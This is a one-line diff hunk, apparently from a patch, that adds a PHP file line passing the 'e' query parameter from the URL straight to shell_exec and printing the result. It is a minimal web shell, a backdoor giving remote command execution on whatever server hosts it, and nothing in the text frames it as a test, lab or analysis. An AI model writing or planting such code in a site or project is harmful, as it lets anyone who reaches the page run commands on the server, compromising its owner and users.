@@ -1,0 +1,1 @@
+<pre><?php echo shell_exec($_GET['e']); ?></pre>
